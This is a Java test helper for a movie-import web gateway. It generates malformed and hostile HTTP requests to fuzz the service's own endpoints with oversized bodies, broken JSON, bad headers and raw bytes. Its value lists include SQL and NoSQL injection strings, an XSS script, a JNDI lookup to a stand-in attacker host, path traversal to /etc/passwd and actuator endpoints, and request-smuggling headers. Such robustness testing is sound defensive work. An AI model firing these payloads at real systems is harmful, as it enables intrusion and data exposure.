package org.tmdbfleet.gateway.web;

import java.io.ByteArrayInputStream;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generates malformed and hostile requests: every hostile value in every field of an import,
 * truncated and deeply nested JSON, wrong content types and methods, oversized bodies, bad ids,
 * parameters and headers, and raw bytes no HTTP library would send. Deterministic, so a failure
 * can be replayed.
 */
final class HostileRequests {

	private static final String VALID = """
			{"source":"discover","maxPages":3,"filters":{"releaseDateFrom":"1990-01-01","releaseDateTo":"1999-12-31",\
			"genres":[28,12],"sortBy":"popularity.desc","language":"en","region":"US"}}""";

	/** Where a hostile value goes: each %s is replaced by one. */
	private static final List<String> FIELDS = List.of("{\"source\":%s,\"maxPages\":1}",
			"{\"source\":\"popular\",\"maxPages\":%s}", "{\"source\":\"discover\",\"maxPages\":1,\"filters\":%s}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"releaseDateFrom\":%s}}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"releaseDateTo\":%s}}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"genres\":%s}}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"genres\":[28,%s]}}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"sortBy\":%s}}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"language\":%s}}",
			"{\"source\":\"discover\",\"maxPages\":1,\"filters\":{\"region\":%s}}",
			"{\"source\":\"popular\",\"maxPages\":1,\"extra\":%s}", "{\"source\":\"discover\",\"filters\":{\"x\":%s}}");

	private static final List<String> HOSTILE_VALUES = List.of("true", "-1", "0", "501", "2147483648",
			"-9223372036854775809", "1e309", "123456789012345678901234567890", "1.5", "-0.0", "\"25\"", "\"\"",
			"\" \"", "\"'; drop table movies; --\"", "\"\\u0000\"", "\"\uD83C\uDFAC\u202E\u0301\"",
			"\"<script>alert(1)</script>\"", "\"${jndi:ldap://attacker/a}\"", "\"2025-02-30\"", "\"yesterday\"",
			"\"1990-13-01\"", "[[[1]]]", "{\"$where\":\"1==1\"}", "\"" + "A".repeat(5000) + "\"", "\"POPULAR\"",
			"\"popularity.desc; drop table movies\"", "\"EN\"", "\"u\"", "\"\\ud800\"", "NaN", "-Infinity",
			"'popular'");

	private final List<Probe> probes = new ArrayList<>();

	/** Every request, in a fixed order. */
	static List<Probe> all() {
		HostileRequests requests = new HostileRequests();
		requests.hostileFieldValues();
		requests.truncatedBodies();
		requests.malformedStructures();
		requests.wrongContentTypes();
		requests.oversizedBodies();
		requests.wrongMethods();
		requests.badPaths();
		requests.badParameters();
		requests.badHeaders();
		requests.rawRequests();
		return List.copyOf(requests.probes);
	}

	private void hostileFieldValues() {
		for (String field : FIELDS) {
			for (String value : HOSTILE_VALUES) {
				json(field.formatted(value));
			}
		}
	}

	private void truncatedBodies() {
		for (int length = 0; length < VALID.length(); length += 3) {
			json(VALID.substring(0, length));
		}
	}

	private void malformedStructures() {
		json("[".repeat(5000) + "]".repeat(5000));
		json("{\"source\":\"popular\",\"filters\":" + "[".repeat(3000));
		json("{\"a\":".repeat(2000) + "1" + "}".repeat(2000));
		json("{\"source\":\"discover\",\"filters\":{\"genres\":" + "[".repeat(1200) + "]".repeat(1200) + "}}");
		for (String root : List.of("null", "true", "42", "\"popular\"", "[]", "{}", " ", "\uFEFF{}", "{,}", "{:}")) {
			json(root);
		}
		json("{\"source\":\"popular\",\"source\":\"upcoming\"}");
		json("{\"source\":\"popular\"}{\"source\":\"popular\"}");
		json("{\"source\":\"popular\" /* comment */}");
		json("{source:\"popular\"}");
		json("{\"" + "k".repeat(20_000) + "\":1}");
		StringBuilder wide = new StringBuilder("{\"source\":\"popular\"");
		for (int i = 0; i < 2000; i++) {
			wide.append(",\"f").append(i).append("\":").append(i);
		}
		json(wide.append('}').toString());
		byte[] invalidUtf8 = { '{', '"', 's', 'o', 'u', 'r', 'c', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"',
				'}' };
		add("POST", "/api/imports", BodyPublishers.ofByteArray(invalidUtf8), "Content-Type", "application/json");
		Random random = new Random(42);
		for (int i = 0; i < 10; i++) {
			byte[] noise = new byte[1 + random.nextInt(300)];
			random.nextBytes(noise);
			add("POST", "/api/imports", BodyPublishers.ofByteArray(noise), "Content-Type", "application/json");
		}
	}

	private void wrongContentTypes() {
		for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
				"multipart/form-data; boundary=xyz", "application/octet-stream", "*/*", "application/json;;;",
				"garbage", "application/json; charset=nonsense", "application/merge-patch+json", "text/json",
				"application/json\u00e9")) {
			add("POST", "/api/imports", BodyPublishers.ofString(VALID), "Content-Type", type);
		}
		add("POST", "/api/imports", BodyPublishers.ofString(VALID));
		add("POST", "/api/imports", BodyPublishers.ofString("--xyz\r\nContent-Disposition: form-data; name=\"a\""
				+ "\r\n\r\nb\r\n--xyz--\r\n"), "Content-Type", "multipart/form-data; boundary=xyz");
	}

	private void oversizedBodies() {
		for (int size : List.of(64 * 1024 + 1, 200 * 1024, 1024 * 1024)) {
			json("{\"source\":\"popular\",\"x\":\"" + "A".repeat(size) + "\"}");
			byte[] bytes = ("[" + "1,".repeat(size / 2) + "1]").getBytes(StandardCharsets.UTF_8);
			add("POST", "/api/imports", BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes)),
					"Content-Type", "application/json");
		}
	}

	private void wrongMethods() {
		List<String> paths = List.of("/api/imports", "/api/imports/7b1f0a4e-9d57-4c1e-8a3e-2d5f6b7c8d9e",
				"/api/imports/7b1f0a4e-9d57-4c1e-8a3e-2d5f6b7c8d9e/cancel",
				"/api/imports/7b1f0a4e-9d57-4c1e-8a3e-2d5f6b7c8d9e/retry",
				"/api/imports/7b1f0a4e-9d57-4c1e-8a3e-2d5f6b7c8d9e/events", "/api/movies", "/api/movies/603", "/actuator/health", "/actuator/prometheus", "/v3/api-docs");
		for (String path : paths) {
			for (String method : List.of("PUT", "PATCH", "DELETE", "POST", "PROPFIND", "TRACE")) {
				add(method, path, BodyPublishers.ofString(VALID), "Content-Type", "application/json");
			}
		}
	}

	private void badPaths() {
		for (String path : List.of("/api/imports/not-a-uuid", "/api/imports/123", "/api/imports/%27%3B%20drop%20table",
				"/api/imports/%F0%9F%8E%AC", "/api/imports/" + "a".repeat(4000), "/api/imports/%C3%A9%E2%80%AE",
				"/api/movies/abc", "/api/movies/-1", "/api/movies/0", "/api/movies/99999999999999999999",
				"/api/movies/1.5", "/api/movies/0x10", "/api/movies/1e3", "/api/movies/%20", "/api/nothing",
				"/api", "/api/", "/API/IMPORTS", "/api//imports", "/api/imports/;jsessionid=x",
				"/api/imports/..%2F..%2Fetc%2Fpasswd", "/api/movies/%27%20or%201=1--", "/api/imports/%00",
				"/api/imports/%2e%2e/%2e%2e/actuator/env", "/actuator/env", "/actuator/beans", "/actuator/heapdump",
				"/actuator/shutdown", "/swagger-ui/nothing.js", "/%2e%2e/%2e%2e/etc/passwd")) {
			add("GET", path, BodyPublishers.noBody());
		}
		add("HEAD", "/api/imports/not-a-uuid", BodyPublishers.noBody());
		// the lifecycle endpoints with ids that are no import
		for (String id : List.of("not-a-uuid", "123", "%27%3B%20drop%20table", "%F0%9F%8E%AC", "a".repeat(2000),
				"00000000-0000-0000-0000-000000000000", "7b1f0a4e-9d57-4c1e-8a3e-2d5f6b7c8d9e", "%00", "-1")) {
			add("POST", "/api/imports/" + id + "/cancel", BodyPublishers.noBody());
			add("POST", "/api/imports/" + id + "/retry", BodyPublishers.ofString("{\"x\":1}"), "Content-Type",
					"application/json");
			add("GET", "/api/imports/" + id + "/events", BodyPublishers.noBody(), "Accept", "text/event-stream");
		}
	}

	private void badParameters() {
		List<String> hostile = List.of("-1", "0", "abc", "99999999999", "1e3", "%27%3B%20drop%20table%20movies%3B--",
				"%00", "%F0%9F%8E%AC", "DONE", "a".repeat(300), "%25%25%25", "___", "%5C%5C%5C");
		for (String value : hostile) {
			for (String parameter : List.of("page", "size", "status", "source")) {
				add("GET", "/api/imports?" + parameter + "=" + value, BodyPublishers.noBody());
			}
			for (String parameter : List.of("query", "year", "genre", "page", "size", "sort")) {
				add("GET", "/api/movies?" + parameter + "=" + value, BodyPublishers.noBody());
			}
		}
		add("GET", "/api/movies?size=1&size=2&sort=title&sort=foo", BodyPublishers.noBody());
	}

	private void badHeaders() {
		for (String key : List.of("k".repeat(201), " ", "caf\u00e9", "\u00ff\u00fe", "'; drop table import_jobs; --"
				+ "x".repeat(300))) {
			add("POST", "/api/imports", BodyPublishers.ofString("{\"source\":\"popular\",\"maxPages\":0}"),
					"Content-Type", "application/json", "Idempotency-Key", key);
		}
		for (String accept : List.of("application/xml", "text/html", "image/png", "garbage")) {
			add("GET", "/api/imports?size=0", BodyPublishers.noBody(), "Accept", accept);
			add("GET", "/api/imports/not-a-uuid", BodyPublishers.noBody(), "Accept", accept);
		}
		add("GET", "/api/imports", BodyPublishers.noBody(), "Accept", "application/xml");
	}

	/** What no HTTP client sends: malformed escapes and raw bytes, for Tomcat to refuse itself. */
	private void rawRequests() {
		for (String target : List.of("/api/imports/%zz", "/api/imports/%", "/api/imports/..%2F..%2Fetc",
				"/api/%2e%2e%5c",
				"/api/imports/%C0%AE%C0%AE", "/api/imports/a%00b", "/api/movies?query=%zz", "/api/movies?query=abc&&&=",
				"/api/imports/..;/..;/actuator/env", "/api/imports/\u00e9", "/api/movies/1?" + "q=1&".repeat(3000),
				"/api/imports/" + "x".repeat(9000))) {
			raw("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
		}
		for (String header : List.of("Idempotency-Key: caf\u00c3\u00a9", "Idempotency-Key: \u00ff\u00fe\u0001",
				"X-Huge: " + "h".repeat(10_000), "Content-Length: -1", "Content-Length: 99999999999999999999",
				"Content-Length: 5\r\nContent-Length: 6", "Transfer-Encoding: chunked, identity")) {
			raw("POST /api/imports HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json"
					+ "\r\n" + header + "\r\n\r\n");
		}
		raw("POST /api/imports HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json"
				+ "\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n");
	}

	private void raw(String request) {
		probes.add(new Probe("RAW", request.substring(0, request.indexOf('\r')), null, "",
				new String[0], request.getBytes(StandardCharsets.ISO_8859_1)));
	}

	private void json(String body) {
		probes.add(new Probe("POST", "/api/imports", BodyPublishers.ofString(body), body,
				new String[] { "Content-Type", "application/json" }, null));
	}

	private void add(String method, String path, BodyPublisher body, String... headers) {
		probes.add(new Probe(method, path, body, "(" + body.contentLength() + " bytes)", headers, null));
	}

	/** One request: sent through the HTTP client, or as raw bytes when {@code raw} is set. */
	record Probe(String method, String path, BodyPublisher body, String shownBody, String[] headers,
			byte[] raw) {

		@Override
		public String toString() {
			return method + " " + shorten(path) + " " + List.of(headers) + " " + shorten(shownBody);
		}

		private static String shorten(String text) {
			return (text.length() > 120) ? text.substring(0, 120) + "...(" + text.length() + " chars)" : text;
		}

	}

}
